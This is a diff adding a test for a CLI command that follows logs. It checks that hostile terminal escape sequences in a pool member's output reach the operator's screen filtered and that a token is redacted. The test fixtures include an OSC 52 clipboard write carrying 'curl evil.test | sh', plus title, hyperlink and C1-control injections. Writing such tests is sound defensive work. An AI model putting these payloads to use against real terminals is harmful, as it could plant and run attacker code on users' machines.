@@ -51,4 +51,36 @@ describe.runIf(canRun)('velda-do pool logs --follow, on a real terminal', () => 
       'done: the Velda agent is starting',
     ])
   })
+
+  it('what the member prints reaches the terminal filtered: no clipboard write, title, hyperlink or C1 control raw, the token redacted', async () => {
+    const ESC = '\x1b'
+    sim.hosts?.setChatter(member.id, {
+      text: [
+        `${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07 clipboard`,
+        `${ESC}]0;pwned\x07 title`,
+        `${ESC}]8;;https://evil.test/${ESC}\\link${ESC}]8;;${ESC}\\ hyperlink`,
+        '\u009b2J C1 CSI \u009d0;C1 OSC\u009c',
+        `token ${sim.token} in the log`,
+        'the end of the chatter',
+        '',
+      ].join('\n'),
+      repeat: 1,
+      intervalMs: 0,
+    })
+    try {
+      const follow = runOnPty(['pool', 'logs', 'gpu', '1', '--follow', '-c', configFile, ...hostSshFlags(sim, key)], env(), {stdout: 'terminal'})
+      await follow.waitFor(/the end of the chatter\r?\n/)
+      follow.type(CTRL_C)
+      expect((await follow.exited).status).toBe(130)
+      const screen = follow.screen()
+      for (const raw of [`${ESC}]52`, `${ESC}]0;`, `${ESC}]8;`, '\u009b', '\u009d', '\x07']) expect(screen).not.toContain(raw)
+      expect(screen).not.toContain(sim.token)
+      // Shown as visible escapes, so the operator sees what the member tried.
+      expect(screen).toContain('\\x1b]52;c;')
+      expect(screen).toContain('\\x9b2J C1 CSI')
+      expect(screen).toContain('token <redacted> in the log')
+    } finally {
+      sim.hosts?.setChatter(member.id, null)
+    }
+  })
 })
